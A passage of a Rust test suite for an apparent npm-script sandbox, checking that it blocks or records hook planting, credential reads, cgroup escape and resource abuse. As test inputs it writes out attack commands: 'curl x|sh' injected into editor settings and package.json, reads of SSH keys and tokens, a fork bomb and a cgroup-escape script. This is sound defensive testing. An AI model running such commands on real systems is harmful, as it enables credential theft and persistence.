            assert!(swap_refused, "{user:?}: .git swapped without a denial{r}");
        } else {
            assert!(
                written(".git/hooks/post-checkout"),
                "{user:?}: the hook planted by swapping .git went unrecorded{r}"
            );
        }
        if block {
            let after: Vec<_> = protected
                .iter()
                .map(|p| tree(&w.project().join(p)))
                .collect();
            assert_eq!(
                before, after,
                "{user:?}: a protected path changed under --block{r}"
            );
            assert_eq!(run.code, Some(1), "{r}");
            for never in [
                ".idea",
                ".claude",
                ".devcontainer",
                ".gitlab-ci.yml",
                ".pnpmfile.cjs",
            ] {
                assert!(
                    p.join(never).symlink_metadata().is_err(),
                    "{user:?}: the read-only placeholder {never} was left in the project{r}"
                );
            }
            for gone in [".vscode", ".envrc", ".yarnrc.yml"] {
                let made = p.join(gone).exists();
                assert!(
                    !made
                        || run.any(|e| field(e, "event") == "persistence-write"
                            && field(e, "target") == s(&p.join(gone))
                            && field(e, "verdict") == "deny"),
                    "{user:?}: {gone} was created under --block without a denial{r}"
                );
            }
        }
    }
}

#[test]
fn racing_the_path_check_does_not_write_a_hook() {
    // An existing entry (.git/hooks) and one that does not exist yet (.envrc): the race
    // decides what the supervisor reads, never what the kernel lets through under --block.
    for (target, harmless) in [
        (".git/hooks/pre-commit", "harmless-file-name-21"),
        (".envrc", "envrc0"),
    ] {
        assert_eq!(target.len(), harmless.len());
        for (user, block) in matrix() {
            let w = World::new(user);
            let Some(probe) = compile(&w, "race_open") else {
                return;
            };
            persistence_project(&w);
            let events = w.root().join("watch.jsonl");
            let run = w.watch(mode(block), &events, &[s(&probe), target, harmless], &[]);
            let r = run.report();
            assert!(run.stdout.contains("race_open wins="), "the probe ran{r}");
            let written = w.project().join(target);
            if block {
                assert!(
                    !written.exists(),
                    "{user:?}: the race wrote {target} under --block{r}"
                );
            } else if written.exists() {
                assert!(
                    run.any(|e| field(e, "event") == "persistence-write"
                        && field(e, "target") == s(&written)),
                    "{user:?}: {target} written by a race went unrecorded{r}"
                );
            }
        }
    }
}

/// A persistence entry that is a link (`.vscode -> tools/vscode`, `.husky -> config/hooks`):
/// writing the link's target by its own name is writing the entry.
#[test]
fn a_persistence_entry_behind_a_link_is_protected_by_where_it_points() {
    if !common::have_tools("linked-entry", &["sh"]) {
        return;
    }
    for (user, block) in matrix() {
        let w = World::new(user);
        let p = w.project();
        std::fs::create_dir_all(p.join("tools/vscode")).unwrap();
        std::fs::write(p.join("tools/vscode/settings.json"), "{}\n").unwrap();
        symlink("tools/vscode", p.join(".vscode")).unwrap();
        // Planted by an earlier run to freeze the temp directory under --block: ignored.
        symlink("/var/tmp", p.join(".husky")).unwrap();
        let script = "echo '{\"terminal.integrated.shellArgs.linux\":[\"-c\",\"curl x|sh\"]}' \
                      > tools/vscode/settings.json 2>/dev/null; \
                      echo '{}' > tools/vscode/tasks.json 2>/dev/null; \
                      echo x > /var/tmp/scratch && echo tmp-writable; echo ran";
        let events = w.root().join("watch.jsonl");
        let run = w.watch(mode(block), &events, &["sh", "-c", script], &[]);
        let r = run.report();
        assert!(run.stdout.contains("ran"), "{r}");
        assert!(
            run.stdout.contains("tmp-writable"),
            "{user:?} block={block}: a planted link froze /var/tmp{r}"
        );
        let recorded = |name: &str| {
            run.any(|e| {
                field(e, "event") == "persistence-write" && field(e, "target").ends_with(name)
            })
        };
        assert!(
            recorded("settings.json") && recorded("tasks.json"),
            "{user:?} block={block}: writes through the entry's target went unrecorded{r}"
        );
        if block {
            assert_eq!(
                std::fs::read_to_string(p.join("tools/vscode/settings.json")).unwrap(),
                "{}\n",
                "{user:?}: the linked entry was written under --block{r}"
            );
            assert!(!p.join("tools/vscode/tasks.json").exists(), "{user:?}{r}");
            assert_eq!(run.code, Some(1), "{r}");
        }
    }
}

/// `package.json` is the project's (npm install writes its dependencies), but a script added
/// there runs on the next `npm install`, `npm test` or `npm run`: a change to `scripts` is a
/// persistence write, and fails `--block`.
#[test]
fn a_script_added_to_package_json_is_recorded() {
    if !common::have_tools("package-scripts", &["sh", "sed"]) {
        return;
    }
    for (user, block) in matrix() {
        for (what, edit, flagged) in [
            (
                "scripts",
                r#"s/"test": "true"/"test": "true", "prepare": "curl x|sh"/"#,
                true,
            ),
            (
                "dependencies",
                r#"s/"left-pad": "1.0.0"/"left-pad": "1.3.0"/"#,
                false,
            ),
        ] {
            let w = World::new(user);
            let pj = w.project().join("package.json");
            std::fs::write(
                &pj,
                "{\n  \"name\": \"p\",\n  \"scripts\": { \"test\": \"true\" },\n  \"dependencies\": { \"left-pad\": \"1.0.0\" }\n}\n",
            )
            .unwrap();
            let script = format!("sed -i '{edit}' package.json && echo edited");
            let events = w.root().join("watch.jsonl");
            let run = w.watch(mode(block), &events, &["sh", "-c", &script], &[]);
            let r = run.report();
            assert!(run.stdout.contains("edited"), "{r}");
            let recorded = run.any(|e| {
                field(e, "event") == "persistence-write"
                    && field(e, "target") == s(&pj)
                    && field(e, "detail").starts_with("package-scripts")
            });
            assert_eq!(
                recorded, flagged,
                "{user:?} block={block}: a change to {what} (flagged: {flagged}){r}"
            );
            if block {
                assert_eq!(run.code, Some(if flagged { 1 } else { 0 }), "{what}{r}");
            }
        }
    }
}

// ---------------------------------------------------------------------------------------
// 11. The home the command sees: empty, its caches private

/// Credential stores no mask list names, a cache turncoat itself trusts, npm's cache.
fn lived_in_home(w: &World) {
    let h = w.home();
    for (rel, text) in [
        (".vault-token", "SECRET-vault"),
        (".pgpass", "db:5432:*:u:SECRET-pg"),
        (
            ".config/git/credentials",
            "https://u:SECRET-git@example.invalid",
        ),
        (".bash_history", "export TOKEN=SECRET-history"),
        (".cache/turncoat/verdicts.json", "trusted"),
        (".npm/_cacache/index-v5/entry", "cache-entry"),
        (".cache/node-gyp/20.0.0/include/node/node.h", "headers"),
    ] {
        let p = h.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, text).unwrap();
    }
}

#[test]
fn the_command_sees_an_empty_home_and_its_caches_are_private() {
    if !common::have_tools("empty-home", &["sh", "cat", "ls"]) {
        return;
    }
    for (user, block) in matrix() {
        let w = World::new(user);
        lived_in_home(&w);
        let script = "cat ~/.vault-token ~/.pgpass ~/.config/git/credentials ~/.bash_history \
                      2>/dev/null; echo; \
                      echo npm-cache=$(cat ~/.npm/_cacache/index-v5/entry 2>/dev/null); \
                      echo gyp=$(cat ~/.cache/node-gyp/20.0.0/include/node/node.h 2>/dev/null); \
                      echo poisoned > ~/.cache/node-gyp/20.0.0/include/node/node.h 2>/dev/null; \
                      echo poisoned > ~/.cache/turncoat/verdicts.json 2>/dev/null; \
                      echo poisoned > ~/.npm/_cacache/index-v5/entry 2>/dev/null; \
                      mkdir -p ~/.npm/_npx/evil ~/.config/husky 2>/dev/null; \
                      echo x > ~/.npm/_npx/evil/run.js 2>/dev/null; \
                      echo x > ~/.config/husky/init.sh 2>/dev/null; \
                      echo home:; ls -A ~";
        let events = w.project().join("watch.jsonl");
        let run = w.watch(mode(block), &events, &["sh", "-c", script], &[]);
        let r = run.report();
        assert!(run.stdout.contains("home:"), "the command ran{r}");
        assert!(
            !run.stdout.contains("SECRET"),
            "{user:?} block={block}: a credential in the home was readable{r}"
        );
        assert!(
            !run.stdout.contains(".vault-token") && !run.stdout.contains(".bash_history"),
            "{user:?} block={block}: the real home is listed{r}"
        );
        // The npm cache is the user's, copy-on-write: readable, never written back.
        assert!(
            run.stdout.contains("npm-cache=cache-entry") && run.stdout.contains("gyp=headers"),
            "{user:?} block={block}: the package managers' caches are not readable{r}"
        );
        let h = w.home();
        let read = |rel: &str| std::fs::read_to_string(h.join(rel)).unwrap_or_default();
        assert_eq!(
            read(".cache/turncoat/verdicts.json"),
            "trusted",
            "{user:?} block={block}{r}"
        );
        assert_eq!(
            read(".npm/_cacache/index-v5/entry"),
            "cache-entry",
            "{user:?} block={block}{r}"
        );
        assert_eq!(
            read(".cache/node-gyp/20.0.0/include/node/node.h"),
            "headers",
            "{user:?} block={block}{r}"
        );
        for left in [".npm/_npx/evil", ".config/husky"] {
            assert!(
                !h.join(left).exists(),
                "{user:?} block={block}: {left} was left in the real home{r}"
            );
        }
    }
}

/// What the user declares (`--allow-read`, `--allow-write`) is shown through the empty home,
/// and nothing beside it.
#[test]
fn declared_paths_show_through_the_empty_home_and_nothing_else() {
    if !common::have_tools("declared-home", &["sh", "cat"]) {
        return;
    }
    for user in users() {
        let w = World::new(user);
        lived_in_home(&w);
        std::fs::write(w.home().join(".npmrc"), "registry=https://r.invalid/\n").unwrap();
        std::fs::create_dir_all(w.home().join("shared-out")).unwrap();
        let script = "cat ~/.npmrc; cat ~/.pgpass 2>/dev/null; \
                      echo out > ~/shared-out/result && echo wrote-declared; echo done";
        let events = w.project().join("watch.jsonl");
        let home = s(&w.home()).to_string();
        let read = format!("{home}/.npmrc");
        let write = format!("{home}/shared-out");
        let run = w.watch(
            &["--allow-read", &read, "--allow-write", &write],
            &events,
            &["sh", "-c", script],
            &[],
        );
        let r = run.report();
        assert!(run.stdout.contains("done"), "{r}");
        assert!(
            run.stdout.contains("registry=https://r.invalid/"),
            "{user:?}: --allow-read did not show ~/.npmrc{r}"
        );
        assert!(
            !run.stdout.contains("SECRET"),
            "{user:?}: a sibling showed through{r}"
        );
        assert_eq!(
            std::fs::read_to_string(w.home().join("shared-out/result")).unwrap_or_default(),
            "out\n",
            "{user:?}: --allow-write under the home did not reach the host{r}"
        );
    }
}

/// A tool installed under the home and named by its path (nvm's `npm`) still runs: its
/// installation shows through the empty home, read-only.
#[test]
fn a_tool_under_the_home_named_by_its_path_runs() {
    if !common::have_tools("home-tool", &["sh"]) {
        return;
    }
    for user in users() {
        let w = World::new(user);
        let tool = w.home().join(".tools/v1");
        std::fs::create_dir_all(tool.join("bin")).unwrap();
        std::fs::create_dir_all(tool.join("lib")).unwrap();
        std::fs::write(tool.join("lib/greet.sh"), "echo tool-lib-loaded\n").unwrap();
        let run_sh = tool.join("bin/run");
        std::fs::write(
            &run_sh,
            "#!/bin/sh\n. \"$(dirname \"$0\")/../lib/greet.sh\"\n",
        )
        .unwrap();
        make_executable(&run_sh);
        let events = w.project().join("watch.jsonl");
        let run = w.watch(&[], &events, &[s(&run_sh)], &[]);
        let r = run.report();
        assert!(
            run.stdout.contains("tool-lib-loaded"),
            "{user:?}: the tool's installation is not visible{r}"
        );
    }
}

/// Without namespaces there is no empty home to mount, but Landlock still keeps the files of
/// the real one from being read (their names stay listable).
#[test]
fn the_degraded_tier_does_not_let_the_command_read_the_home() {
    if !common::have_tools("degraded-home", &["sh", "cat"]) {
        return;
    }
    for user in users() {
        let w = World::new(user);
        lived_in_home(&w);
        std::fs::write(w.project().join("own.txt"), "project-file\n").unwrap();
        std::fs::create_dir_all(w.home().join(".ssh")).unwrap();
        std::fs::write(w.home().join(".ssh/id_rsa"), "SECRET-key").unwrap();
        let script = "cat ~/.vault-token ~/.pgpass ~/.config/git/credentials ~/.ssh/id_rsa \
                      2>/dev/null; \
                      cat own.txt; cat /etc/hostname >/dev/null && echo etc-readable; echo done";
        let events = w.project().join("watch.jsonl");
        let run = w.watch(&["--tier", "degraded"], &events, &["sh", "-c", script], &[]);
        let r = run.report();
        assert!(run.stdout.contains("done"), "{r}");
        assert!(
            run.stdout.contains("project-file") && run.stdout.contains("etc-readable"),
            "{user:?}: the project or the system became unreadable{r}"
        );
        assert!(
            !run.stdout.contains("SECRET"),
            "{user:?}: the degraded tier let the command read the home{r}"
        );
        assert!(
            run.any(|e| field(e, "event") == "sensitive-read"
                && field(e, "target").ends_with("/.ssh/id_rsa")
                && field(e, "verdict") == "deny"),
            "{user:?}: the refused read is not recorded as refused{r}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// 12. Attribution comes from the process tree, not from what a process says

#[test]
fn a_lifecycle_script_cannot_pass_itself_off_as_another_package() {
    if !common::have_tools("attribution", &["sh", "env", "cat", "sleep"]) {
        return;
    }
    for (user, block) in matrix() {
        let w = World::new(user);
        // The root command plays npm: it runs evil@1.0.0's postinstall, which then claims to
        // be victim@2.0.0 in its children's environment, directly and from a detached
        // grandchild whose parent is gone before it acts.
        let forged = "npm_package_name=victim npm_package_version=2.0.0 npm_lifecycle_event=build";
        let payload = format!(
            "env {forged} cat /dev/null; \
             ( ( sleep 0.3; exec env {forged} cat /dev/null ) & ); sleep 0.6; echo payload-done"
        );
        let script = format!(
            "npm_package_name=evil npm_package_version=1.0.0 npm_lifecycle_event=postinstall \
             sh -c '{payload}'"
        );
        let events = w.project().join("watch.jsonl");
        let run = w.watch(mode(block), &events, &["sh", "-c", &script], &[]);
        let r = run.report();
        assert!(run.stdout.contains("payload-done"), "the payload ran{r}");
        assert!(
            run.any(|e| field(e, "event") == "exec"
                && field(e, "package") == "evil@1.0.0"
                && field(e, "stage") == "postinstall"),
            "{user:?} block={block}: the lifecycle script itself is attributed (control){r}"
        );
        assert!(
            !run.any(|e| field(e, "package").starts_with("victim")),
            "{user:?} block={block}: an event was attributed to the package a process named{r}"
        );
        let cats: Vec<Value> = run
            .events()
            .into_iter()
            .filter(|e| {
                field(e, "event") == "exec"
                    && field(e, "target").ends_with("/cat")
                    && !field(e, "detail").starts_with("attempt")
            })
            .collect();
        assert_eq!(cats.len(), 2, "both forged execs recorded{r}");
        assert!(
            cats.iter().any(|e| field(e, "package") == "evil@1.0.0"),
            "{user:?} block={block}: the direct child keeps its script's package{r}"
        );
        // The grandchild is attributed by the tree turncoat saw: to evil@1.0.0 when turncoat
        // saw its parent before the parent exited, else to no package ("(detached)"), which
        // of the two is a race; never to the name it claims (asserted above).
        assert!(
            cats.iter().all(|e| field(e, "package") == "evil@1.0.0"
                || (field(e, "package").is_empty() && field(e, "stage") == "(detached)")),
            "{user:?} block={block}: the detached grandchild is attributed to its real origin or to no package{r}"
        );
    }
}

/// The exemption for npm reading its own `~/.npmrc` belongs to the package manager, not to a
/// script that drops `npm_lifecycle_event` from its environment before reading the file.
#[test]
fn a_script_that_hides_its_stage_is_not_the_package_manager() {
    if !common::have_tools("own-config", &["sh", "env", "cat"]) {
        return;
    }
    for user in users() {
        let w = World::new(user);
        std::fs::write(
            w.home().join(".npmrc"),
            "//registry.invalid/:_authToken=SECRET\n",
        )
        .unwrap();
        let script = "npm_package_name=evil npm_package_version=1.0.0 npm_lifecycle_event=postinstall \
                      sh -c 'env -u npm_lifecycle_event -u npm_package_name -u npm_package_version \
                      cat ~/.npmrc; echo read-done'";
        let events = w.project().join("watch.jsonl");
        let run = w.watch(&["--block"], &events, &["sh", "-c", script], &[]);
        let r = run.report();
        assert!(run.stdout.contains("read-done"), "the script ran{r}");
        assert!(
            !run.stdout.contains("SECRET"),
            "{user:?}: the token was read{r}"
        );
        assert!(
            run.any(|e| field(e, "event") == "sensitive-read"
                && field(e, "target").ends_with("/.npmrc")
                && field(e, "verdict") == "deny"),
            "{user:?}: the script's read of ~/.npmrc passed as npm's own{r}"
        );
        assert_eq!(run.code, Some(1), "{r}");
    }
}

// Keep the helpers used when only some tests compile in.
#[allow(dead_code)]
fn make_executable(p: &Path) {
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
}

#[allow(dead_code)]
fn link(src: &Path, dst: &Path) {
    symlink(src, dst).unwrap();
}

// ---------------------------------------------------------------------------------------
// 14. Resource limits: the tree's own cgroup, which it cannot leave

/// Does this run enforce limits with a cgroup? Root here; an unprivileged user only where a
/// cgroup is delegated, else the summary must say the limits are not enforced.
fn limits_enforced(run: &Run) -> bool {
    !run.stderr.contains("not enforced: no cgroup")
}

#[test]
fn a_fork_bomb_stops_at_the_process_limit_and_is_reported() {
    if !common::have_tools("fork-bomb", &["perl"]) {
        return;
    }
    // Each child holds its slot; the parent forks until the kernel says no.
    let bomb = "my $ok = 0; for (1..400) { my $p = fork; last unless defined $p; \
                if ($p == 0) { sleep 30; exit 0 } $ok++ } print \"forked=$ok\\n\";";
    for (user, block) in matrix() {
        let w = World::new(user);
        let events = w.root().join("watch.jsonl");
        let mut opts = vec!["--pids-max", "60"];
        opts.extend(mode(block));
        let run = w.watch(&opts, &events, &["perl", "-e", bomb], &[]);
        let r = run.report();
        let forked: u32 = run
            .stdout
            .lines()
            .find_map(|l| l.strip_prefix("forked=")?.parse().ok())
            .unwrap_or_else(|| panic!("{user:?}: the bomb did not report{r}"));
        if !limits_enforced(&run) {
            assert!(
                user == As::Nobody || !is_root(),
                "root must get a cgroup on this machine{r}"
            );
            assert!(
                run.stderr
                    .contains("limits are not enforced by a cgroup here"),
                "{user:?}: no cgroup, and the summary does not say so{r}"
            );
            continue;
        }
        assert!(
            forked < 60,
            "{user:?}: {forked} forks under --pids-max 60{r}"
        );
        assert!(
            run.any(|e| field(e, "event") == "limit"
                && field(e, "target") == "pids.max"
                && field(e, "verdict") == "deny"),
            "{user:?}: the limit went unreported in the events{r}"
        );
        assert!(
            run.stderr.contains("limit reached")
                && run.stderr.contains("fork(s) refused at the process limit"),
            "{user:?}: no summary line{r}"
        );
        if block {
            assert_eq!(run.code, Some(1), "{user:?}: --block must fail the run{r}");
        }
    }
}

#[test]
fn a_memory_hog_is_killed_at_the_memory_limit_and_reported() {
    if !common::have_tools("memory-hog", &["perl"]) {
        return;
    }
    for user in users() {
        let w = World::new(user);
        let events = w.root().join("watch.jsonl");
        let run = w.watch(
            &["--memory-max", "64M"],
            &events,
            &[
                "perl",
                "-e",
                "my $x = 'a' x (512 << 20); print \"survived=\", length($x), \"\\n\";",
            ],
            &[],
        );
        let r = run.report();
        if !limits_enforced(&run) {
            assert!(
                user == As::Nobody || !is_root(),
                "root must get a cgroup on this machine{r}"
            );
            assert!(
                run.stderr
                    .contains("limits are not enforced by a cgroup here"),
                "{r}"
            );
            continue;
        }
        assert!(
            !run.stdout.contains("survived="),
            "{user:?}: 512 MiB held under --memory-max 64M{r}"
        );
        assert!(
            run.any(|e| field(e, "event") == "limit"
                && field(e, "target") == "memory.max"
                && field(e, "detail").contains("killed by the OOM killer")),
            "{user:?}: the OOM kill went unreported{r}"
        );
        assert!(
            run.stderr.contains("killed at the memory limit"),
            "{user:?}: no summary line{r}"
        );
    }
}

#[test]
fn the_command_cannot_leave_its_cgroup() {
    if !common::have_tools("cgroup-escape", &["sh", "awk", "cat"]) {
        return;
    }
    // Every cgroup file system the host has mounted: move ourselves to its root, make a
    // sibling group, raise our own limit.
    let script = r#"
        cat /proc/self/cgroup | sed 's/^/before:/'
        for m in $(awk '{ for (i = 1; i <= NF; i++) if ($i == "-") { if ($(i+1) ~ /^cgroup/) print $5 } }' /proc/self/mountinfo) /sys/fs/cgroup /sys/fs/cgroup/unified; do
          (echo $$ > "$m/cgroup.procs") 2>/dev/null && echo "ESCAPED-TO $m"
          mkdir "$m/turncoat-escape-$$" 2>/dev/null && echo "MADE $m" && rmdir "$m/turncoat-escape-$$"
        done
        for own in $(sed -n 's/^[0-9]*:\(pids\|memory\|\):\(.*\)$/\2/p' /proc/self/cgroup); do
          for f in /sys/fs/cgroup/pids$own/pids.max /sys/fs/cgroup$own/pids.max /sys/fs/cgroup/unified$own/pids.max; do
            (echo max > "$f") 2>/dev/null && echo "RAISED $f"
          done
        done
        cat /proc/self/cgroup | sed 's/^/after:/'
    "#;
    for user in users() {
        for tier in [
            &["--pids-max", "100"][..],
            &["--pids-max", "100", "--tier", "degraded"],
        ] {
            let w = World::new(user);
            let events = w.root().join("watch.jsonl");
            let run = w.watch(tier, &events, &["sh", "-c", script], &[]);
            let r = run.report();
            assert!(run.stdout.contains("after:"), "the probe ran{r}");
            for bad in ["ESCAPED-TO", "MADE ", "RAISED "] {
                assert!(
                    !run.stdout.contains(bad),
                    "{user:?} {tier:?}: {bad} — the command left or changed its cgroup{r}"
                );
            }
            if limits_enforced(&run) {
                let own: Vec<&str> = run
                    .stdout
                    .lines()
                    .filter_map(|l| l.strip_prefix("after:"))
                    .filter(|l| l.contains(":pids:") || l.starts_with("0::"))
                    .filter(|l| l.contains("turncoat-watch-"))
                    .collect();
                assert!(!own.is_empty(), "{user:?}: not in the run's cgroup{r}");
                // Removed after the run.
                for l in own {
                    let path = l.rsplit(':').next().unwrap_or("");
                    for root in [
                        "/sys/fs/cgroup/pids",
                        "/sys/fs/cgroup",
                        "/sys/fs/cgroup/unified",
                    ] {
                        let d = PathBuf::from(format!("{root}{path}"));
                        assert!(!d.exists(), "{} left behind{r}", d.display());
                    }
                }
            }
        }
    }
}

// ---------------------------------------------------------------------------------------
// 15. What gets past the degraded tier's path checks is undone under --block

#[test]
fn a_persistence_write_that_gets_past_the_degraded_tier_is_undone_under_block() {
    for user in users() {
        let w = World::new(user);
        let (Some(mknod), Some(race)) = (compile(&w, "mknod_file"), compile(&w, "race_write"))
        else {
            return;
        };
        persistence_project(&w);
        let p = w.project();
        let events = w.root().join("watch.jsonl");
        let degraded = ["--tier", "degraded", "--block"];

        // Another syscall (mknodat makes a regular file without open) and a race.
        let run = w.watch(
            &degraded,
            &events,
            &[
                s(&mknod),
                ".envrc",
                ".git/hooks/pre-commit",
                ".github/workflows/evil.yml",
            ],
            &[],
        );
        let r = run.report();
        assert!(run.stdout.contains("mknod .envrc"), "the probe ran{r}");
        for made in [
            ".envrc",
            ".git/hooks/pre-commit",
            ".github/workflows/evil.yml",
        ] {
            assert!(
                !p.join(made).exists(),
                "{user:?}: {made} left behind under --block{r}"
            );
        }
        assert_eq!(run.code, Some(1), "{user:?}: --block must fail the run{r}");

        let run = w.watch(
            &degraded,
            &events,
            &[
                s(&race),
                ".git/config",
                ".git/confog",
                "[core]\n\thooksPath = /tmp/evil\n",
            ],
            &[],
        );
        let r = run.report();
        assert!(run.stdout.contains("race_write wins="), "the probe ran{r}");
        assert_eq!(
            std::fs::read_to_string(p.join(".git/config")).unwrap(),
            "[core]\n\tbare = false\n",
            "{user:?}: .git/config changed by a race under --block{r}"
        );
        if run.stdout.contains("race_write wins=1") {
            assert!(
                run.any(|e| field(e, "event") == "persistence-write"
                    && field(e, "target") == s(&p.join(".git/config"))
                    && field(e, "detail").contains("undone (content restored)")),
                "{user:?}: the race's write was put back without saying so{r}"
            );
            assert_eq!(run.code, Some(1), "{r}");
        }
    }
}

// ---------------------------------------------------------------------------------------
// 16. The configured npm cache: shown copy-on-write wherever it is, never a secret place

#[test]
fn an_npm_cache_configured_outside_the_home_is_shown_copy_on_write() {
    if !common::have_tools("npm-cache", &["sh", "cat"]) {
        return;
    }
    for user in users() {
        let w = World::new(user);
        // Outside the project and the home (under the host's /tmp, private in the sandbox).
        let cache = w.root().join("npm-cache");
        std::fs::create_dir_all(cache.join("_cacache/index-v5")).unwrap();
        std::fs::write(cache.join("_cacache/index-v5/marker"), "cached-entry\n").unwrap();
        std::fs::write(
            w.home().join(".npmrc"),
            format!("cache={}\n", cache.display()),
        )
        .unwrap();
        let events = w.root().join("watch.jsonl");
        let script = "echo \"cache=$npm_config_cache\"; \
                      cat \"$npm_config_cache/_cacache/index-v5/marker\"; \
                      echo new > \"$npm_config_cache/_cacache/written\" && echo wrote";
        let run = w.watch(&[], &events, &["sh", "-c", script], &[]);
        let r = run.report();
        assert!(
            run.stdout.contains(&format!("cache={}", cache.display())),
            "{user:?}: npm is not pointed at the configured cache{r}"
        );
        assert!(
            run.stdout.contains("cached-entry"),
            "{user:?}: the configured cache is invisible to the command{r}"
        );
        assert!(
            run.stdout.contains("wrote"),
            "{user:?}: the cache is not writable{r}"
        );
        assert!(
            !cache.join("_cacache/written").exists(),
            "{user:?}: a write reached the host's cache (must be copy-on-write){r}"
        );
    }
}

#[test]
fn a_project_npmrc_cannot_name_a_secret_place_as_the_npm_cache() {
    if !common::have_tools("npm-cache-secret", &["sh", "cat", "ls"]) {
        return;
    }
    for user in users() {
        let w = World::new(user);
        let h = w.home();
        std::fs::create_dir_all(h.join(".ssh")).unwrap();
        std::fs::write(h.join(".ssh/id_rsa"), "SECRET-SSH-KEY-4711\n").unwrap();
        std::fs::create_dir_all(h.join(".config/gh")).unwrap();
        std::fs::write(
            h.join(".config/gh/hosts.yml"),
            "oauth_token: SECRET-GH-4712\n",
        )
        .unwrap();
        // Dressed up as caches: `_cacache` planted where the secrets are.
        std::fs::create_dir_all(h.join(".ssh/_cacache")).unwrap();
        std::fs::create_dir_all(h.join(".config/_cacache")).unwrap();
        let events = w.root().join("watch.jsonl");
        for bad in [
            h.join(".ssh"),
            h.join(".config"),
            h.clone(),
            PathBuf::from("/etc"),
        ] {
            std::fs::write(
                w.project().join(".npmrc"),
                format!("cache={}\n", bad.display()),
            )
            .unwrap();
            let script = format!(
                "echo \"cache=$npm_config_cache\"; cat {h}/.ssh/id_rsa {h}/.config/gh/hosts.yml \
                 \"$npm_config_cache/id_rsa\" 2>/dev/null; ls -a {bad} 2>/dev/null",
                h = h.display(),
                bad = bad.display()
            );
            let run = w.watch(&[], &events, &["sh", "-c", &script], &[]);
            let r = run.report();
            for secret in ["SECRET-SSH-KEY-4711", "SECRET-GH-4712"] {
                assert!(
                    !run.stdout.contains(secret),
                    "{user:?}: cache={} showed {secret}{r}",
                    bad.display()
                );
            }
            assert!(
                run.stdout
                    .contains(&format!("cache={}", h.join(".npm").display())),
                "{user:?}: cache={}: npm must get ~/.npm{r}",
                bad.display()
            );
            assert!(
                run.stderr.contains("is not shown to the command"),
                "{user:?}: cache={}: the refusal is not said{r}",
                bad.display()
            );
        }
    }
}

// ---------------------------------------------------------------------------------------
// 17. Another syscall ABI around the filter (int 0x80, x32)

#[cfg(target_arch = "x86_64")]
#[test]
fn syscalls_through_another_abi_are_refused() {
    for (user, block) in matrix() {
        let w = World::new(user);
        let Some(probe) = compile(&w, "foreign_abi") else {
            return;
        };
        let events = w.root().join("watch.jsonl");
        let run = w.watch(mode(block), &events, &[s(&probe)], &[]);
        let r = run.report();
        assert!(run.stdout.contains("x32 child"), "the probe ran{r}");
        for abi in ["int80", "x32"] {
            // A positive result is a pid: the syscall ran.
            let ran = run.stdout.lines().any(|l| {
                l.strip_prefix(&format!("{abi} result="))
                    .and_then(|v| v.parse::<i64>().ok())
                    .is_some_and(|v| v > 0)
            });
            assert!(!ran, "{user:?}: a syscall through {abi} ran{r}");
        }
    }
}
